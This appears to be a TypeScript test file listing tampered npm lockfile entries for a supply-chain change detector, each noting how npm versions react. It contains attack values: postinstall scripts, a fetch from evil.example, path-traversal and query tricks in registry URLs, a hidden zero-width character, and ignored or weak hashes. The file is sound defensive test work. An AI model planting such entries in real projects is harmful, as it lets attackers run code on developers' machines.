import type { AttackClass } from "./attack.ts";
import { hashOf, lockWith, manifestWith, turnedLock, WITH_SCRIPT } from "./npm-app.ts";

const LEFT = "node_modules/left";
const VITE = "node_modules/vite";
const LOCK = "package-lock.json";

/** A package that brings another one in its own archive. */
const BUNDLE = {
  [LEFT]: { dependencies: { inner: "^1.0.0" }, bundleDependencies: ["inner"] },
  [`${LEFT}/node_modules/inner`]: { version: "1.0.0", inBundle: true },
};

const GIT = "git+ssh://git@github.com/o/left.git";
const [COMMIT, OTHER_COMMIT] = ["1".repeat(40), "2".repeat(40)];
const VENDORED = { [LEFT]: { resolved: "file:vendor/left-1.0.0.tgz", integrity: undefined } };

export const NPM_LOCK_FIELDS: AttackClass = {
  name: "npm lock fields",
  decides:
    "npm takes an entry for the package's own package.json, fetches `resolved` whatever it is called, checks the strongest hash that it can read, and from format 2 on believes `hasInstallScript`, but for a binding.gyp.",
  attacks: [
    {
      name: "hears a script that stands in an entry",
      change: { [LOCK]: lockWith({ [LEFT]: { scripts: { postinstall: "touch pwned" } } }) },
      expect: "loud",
      at: LOCK,
      real: "`npm ci` of npm 10.9 and 11.21 runs it, with `hasInstallScript: false` beside it too; npm 12.2 asks for approval.",
    },
    {
      name: "hears a package that says it is bundled and is fetched",
      change: {
        [LOCK]: lockWith({
          [LEFT]: { resolved: "https://evil.example/left-1.0.0.tgz", integrity: hashOf("E"), inBundle: true },
        }),
      },
      expect: "loud",
      rule: "packages/source-changed",
      real: "npm 10, 11 and 12 fetch `resolved`: nothing bundles it, whatever `inBundle` says.",
    },
    {
      name: "hears a nested package that says it is bundled where nobody bundles it",
      change: {
        [LOCK]: lockWith({
          [LEFT]: { dependencies: { evil: "*" } },
          [`${LEFT}/node_modules/evil`]: { ...WITH_SCRIPT, inBundle: true },
        }),
      },
      expect: "loud",
      rule: "build/install-script-added",
      real: "npm 10 and 11 fetched `evil` from the registry, without an address in the entry too, and ran its script.",
    },
    {
      name: "hears an archive of the repository in place of a registry's",
      change: {
        [LOCK]: lockWith({ [LEFT]: { resolved: "file:vendor/left-1.0.0.tgz", integrity: hashOf("E") } }),
        "vendor/left-1.0.0.tgz": new Uint8Array([31, 139, 8, 0, 255]),
      },
      expect: "loud",
      rule: "packages/source-changed",
      real: "npm 10 and 11 unpack it and run its scripts where the entry has `hasInstallScript`.",
    },
    {
      name: "hears other bytes in an archive of the repository that no hash pins",
      base: { [LOCK]: lockWith(VENDORED), "vendor/left-1.0.0.tgz": new Uint8Array([31, 139, 8, 0, 254]) },
      change: { "vendor/left-1.0.0.tgz": new Uint8Array([31, 139, 8, 0, 255]) },
      expect: "loud",
      rule: "packages/checksum-changed",
      real: "npm 10 and 11 install whatever lies there where the entry has no `integrity`.",
    },
    {
      name: "follows an address that climbs to another package",
      change: {
        [LOCK]: lockWith({
          [LEFT]: {
            resolved: "https://registry.npmjs.org/left/-/../../evil/-/left-1.0.0.tgz",
            integrity: hashOf("E"),
          },
        }),
      },
      expect: "loud",
      rule: "packages/source-changed",
      real: "npm 10, 11 and 12 ask for `/evil/-/left-1.0.0.tgz`; `%2e%2e` and backslashes do the same.",
    },
    {
      name: "takes no version that climbs for one",
      change: {
        [LOCK]: lockWith({
          [LEFT]: {
            version: "1.0.0/../../../evil/-/evil-1.0.0",
            resolved: "https://registry.npmjs.org/left/-/left-1.0.0/../../../evil/-/evil-1.0.0.tgz",
            integrity: hashOf("E"),
          },
        }),
      },
      expect: "loud",
      at: LOCK,
      real: "The address that it makes up is `/evil/-/evil-1.0.0.tgz`, and npm asks for that.",
    },
    {
      name: "takes no name in a query for one",
      change: {
        [LOCK]: lockWith({
          [LEFT]: {
            resolved: "https://registry.npmjs.org/evil.tgz?/left/-/left-1.0.0.tgz",
            integrity: hashOf("E"),
          },
        }),
      },
      expect: "loud",
      rule: "packages/source-changed",
      real: "npm 10, 11 and 12 ask for `/evil.tgz`, with the query or, behind `#`, without.",
    },
    {
      name: "hears an address that is another package's name",
      change: { [LOCK]: lockWith({ [LEFT]: { resolved: "npm:evil@1.0.0", integrity: hashOf("E") } }) },
      expect: "loud",
      rule: "packages/source-changed",
      real: "npm 10, 11 and 12 fetch `/evil/-/evil-1.0.0.tgz`. `1.0.0`, `o/r` and `github:o/r` are addresses to npm too.",
    },
    {
      name: "hears a repository in place of a registry",
      change: { [LOCK]: lockWith({ [LEFT]: { resolved: `${GIT}#${COMMIT}`, integrity: undefined } }) },
      expect: "loud",
      rule: "packages/source-changed",
      real: "npm 10 and 11 clone it, and run preinstall, postinstall and prepare without `hasInstallScript`; npm 12 refuses.",
    },
    {
      name: "hears another commit of the same repository",
      base: { [LOCK]: lockWith({ [LEFT]: { resolved: `${GIT}#${COMMIT}`, integrity: undefined } }) },
      change: { [LOCK]: lockWith({ [LEFT]: { resolved: `${GIT}#${OTHER_COMMIT}`, integrity: undefined } }) },
      expect: "loud",
      at: LOCK,
      real: "Its scripts run while it is fetched: with `--ignore-scripts`, npm 10 runs `prepare` all the same.",
    },
    {
      name: "hears a new package that may bring a binding.gyp",
      change: { [LOCK]: lockWith({ "node_modules/evil": { version: "1.0.0", integrity: hashOf("E") } }) },
      expect: "loud",
      at: LOCK,
      real: "npm 10 and 11 run `node-gyp rebuild`, with `hasInstallScript: false` too. An entry that nothing asks for npm 10 installs, 11 and 12 don't.",
    },
    {
      name: "hears a switch that is a text",
      change: { [LOCK]: lockWith({ [LEFT]: { hasInstallScript: "false" } }) },
      expect: "loud",
      at: LOCK,
      real: 'To npm 10 and 11 `"false"` is true: the archive\'s script ran. `"link": "yes"` is a link.',
    },
    {
      name: "hears a command that another package takes over",
      base: { [LOCK]: lockWith({ [VITE]: { bin: { vite: "bin/vite.js" } } }) },
      change: {
        [LOCK]: lockWith({ [VITE]: { bin: { vite: "bin/vite.js" } }, [LEFT]: { bin: { vite: "index.js" } } }),
      },
      expect: "loud",
      at: LOCK,
      real: "npm 10, 11 and 12 link `.bin/vite` to left's file, and `vite build` ran it.",
    },
    {
      name: "hears a package that is newly made for more machines",
      base: { [LOCK]: lockWith({ [LEFT]: { os: ["win32"], optional: true, hasInstallScript: true } }) },
      change: { [LOCK]: lockWith({ [LEFT]: { optional: true, hasInstallScript: true } }) },
      expect: "loud",
      at: LOCK,
      real: "npm 10 and 11 on Linux fetched it and ran its script, and nothing with `os` of Windows.",
    },
    {
      name: "hears another package under a known name",
      change: { [LOCK]: lockWith({ [LEFT]: { name: "evil", integrity: hashOf("E") } }) },
      expect: "loud",
      at: LOCK,
      real: "npm 10, 11 and 12 fetch `/evil/-/evil-1.0.0.tgz` into node_modules/left, whatever package.json asks for.",
    },
    {
      name: "takes no other kind of hash for the same",
      base: { [LOCK]: lockWith({ [LEFT]: { integrity: "sha1-2jmj7l5rSw0yVb/vlWAYkK/YBwk=" } }) },
      change: { [LOCK]: lockWith({ [LEFT]: { integrity: hashOf("E") } }) },
      expect: "loud",
      at: LOCK,
      real: "npm checks the strongest hash alone; bytes that fit the sha512 and not the sha1 were installed.",
    },
    {
      name: "hears a hash that npm can't read",
      change: { [LOCK]: lockWith({ [LEFT]: { integrity: hashOf("A").replace("sha512", "SHA512") } }) },
      expect: "loud",
      rule: "packages/checksum-changed",
      real: "npm 10, 11 and 12 install any bytes: `SHA512-…` and `garbage` are dropped unseen, md5 is enough.",
    },
    {
      name: "hears a second hash of equal strength",
      change: { [LOCK]: lockWith({ [LEFT]: { integrity: `${hashOf("A")} ${hashOf("E")}` } }) },
      expect: "loud",
      rule: "packages/checksum-changed",
      real: "npm 10, 11 and 12 install bytes that either fits.",
    },
    {
      name: "hears a new package that no hash pins",
      change: { [LOCK]: lockWith({ [LEFT]: { version: "1.0.1", integrity: undefined } }) },
      expect: "loud",
      at: LOCK,
      real: "Without `integrity`, or with an empty one, npm 10, 11 and 12 install whatever is served.",
    },
    {
      name: "reads no packages of a format in which flags don't count",
      change: { [LOCK]: lockWith({}, { lockfileVersion: 1 }) },
      expect: "loud",
      at: LOCK,
      real: "Below 2, and where it is no number, npm 10 and 11 take `packages` all the same and run scripts without `hasInstallScript`.",
    },
    {
      name: "hears an entry under another spelling of a folder",
      change: {
        [LOCK]: lockWith({ [`./${LEFT}`]: { version: "1.0.0", scripts: { postinstall: "touch pwned" } } }),
      },
      expect: "loud",
      at: LOCK,
      real: "npm 10 and 11 resolve the key to the same folder, and the last of two ran its script.",
    },
    {
      name: "hears an archive that brings a lockfile of its own",
      change: { [LOCK]: lockWith({ [LEFT]: { hasShrinkwrap: true } }) },
      expect: "loud",
      at: LOCK,
      real: "npm 10 and 11 install what the npm-shrinkwrap.json in the archive names, and ran its scripts; npm 12 doesn't.",
    },
    {
      name: "hears what npm 6 would take from the second half of format 2",
      change: {
        [LOCK]: lockWith(
          {},
          { lockfileVersion: 2, dependencies: { left: { version: "1.0.0", integrity: hashOf("E") } } },
        ),
      },
      expect: "loud",
      at: LOCK,
      real: "npm 10, 11 and 12 take `packages`; npm 6 knows `dependencies` alone.",
    },
    {
      name: "hears a folder of the repository whose script runs in place of a package",
      change: {
        [LOCK]: lockWith({
          [LEFT]: { version: undefined, integrity: undefined, resolved: "vendor/left", link: true },
          "vendor/left": { name: "left", version: "1.0.0" },
        }),
        "vendor/left/package.json":
          '{"name":"left","version":"1.0.0","scripts":{"postinstall":"touch pwned"}}',
      },
      expect: "loud",
      rule: "build/install-script-added",
      real: "npm 10 and 11 run preinstall, install, postinstall and prepare of what a link leads to, without any flag.",
    },
    {
      name: "hears an address with a character that nobody sees",
      change: {
        [LOCK]: lockWith({
          "node_modules/left": { resolved: "https://regist\u200bry.npmjs.org/left/-/left-1.0.0.tgz" },
        }),
      },
      expect: "loud",
      at: LOCK,
      real: "Readers of addresses leave it out, and npm never writes it.",
    },
    {
      name: "takes the project's own entry out",
      change: { [LOCK]: lockWith({ "": null }) },
      expect: "loud",
      at: LOCK,
      real: "npm 7 to 12 write one into every lockfile. Not tried.",
    },
    {
      name: "asks for a package beside a lockfile without the project's own entry",
      change: {
        "package.json": manifestWith({ dependencies: { left: "^1.0.0", evil: "^1.0.0" } }),
        [LOCK]: lockWith({ "": null }),
      },
      expect: "loud",
      at: LOCK,
      real: "By npm's manual, `npm install` takes the newest release of what the lockfile lacks.",
    },
    {
      name: "says nothing of entries in another order",
      change: { [LOCK]: turnedLock() },
      expect: "silent",
      real: "The order of keys means nothing to npm where no two mean one folder.",
    },
    {
      name: "says nothing of fields that decide nothing",
      change: {
        [LOCK]: lockWith({
          [LEFT]: { license: "MIT", funding: { url: "https://example.com" }, engines: { node: ">=18" } },
          [VITE]: { deprecated: "Use another", libc: ["glibc"], peer: true, optional: true },
        }),
      },
      expect: "silent",
      real: "Nothing ran and nothing else was fetched by npm 10, 11 and 12.",
    },
    {
      name: "says nothing of the address that npm leaves out or writes",
      change: {
        [LOCK]: lockWith({ [LEFT]: { resolved: "https://registry.npmjs.org/left/-/left-1.0.0.tgz" } }),
      },
      expect: "silent",
      real: "Both mean the registry that is configured: npm 10, 11 and 12 ask that one.",
    },
    {
      name: "says nothing of a package that moves in the tree",
      base: {
        [LOCK]: lockWith({
          [LEFT]: { dependencies: { inner: "1" } },
          "node_modules/inner": { version: "1.0.0", integrity: hashOf("C") },
        }),
      },
      change: {
        [LOCK]: lockWith({
          [LEFT]: { dependencies: { inner: "1" } },
          [`${LEFT}/node_modules/inner`]: { version: "1.0.0", integrity: hashOf("C") },
        }),
      },
      expect: "silent",
      real: "The same bytes in another folder.",
    },
    {
      name: "says nothing of what an archive really brings along",
      base: { [LOCK]: lockWith(BUNDLE) },
      change: { [LOCK]: lockWith({ ...BUNDLE, [VITE]: { license: "MIT" } }) },
      expect: "silent",
      real: "npm 10, 11 and 12 fetch nothing for what `bundleDependencies` of the parent's entry names.",
    },
    {
      name: "says nothing of a package that goes with what asked for it",
      change: {
        [LOCK]: lockWith({ [LEFT]: null, "": { dependencies: {} } }),
        "package.json": manifestWith({ dependencies: {} }),
      },
      expect: "silent",
      real: "npm fetches less.",
    },
    {
      name: "says nothing of a weaker hash beside the same strong one",
      change: {
        [LOCK]: lockWith({ [LEFT]: { integrity: `${hashOf("A")} sha1-2jmj7l5rSw0yVb/vlWAYkK/YBwk=` } }),
      },
      expect: "silent",
      real: "npm 10, 11 and 12 refuse bytes that only fit the sha1.",
    },
    {
      name: "says nothing of the second half of format 2 where it says the same",
      base: { ".npmrc": "lockfile-version=2\n" },
      change: {
        [LOCK]: lockWith(
          {},
          {
            lockfileVersion: 2,
            dependencies: {
              left: { version: "1.0.0", integrity: hashOf("A") },
              vite: { version: "5.4.0", integrity: hashOf("B"), dev: true },
            },
          },
        ),
      },
      expect: "silent",
      real: "npm 7 and 8 write both halves.",
    },
  ],
};
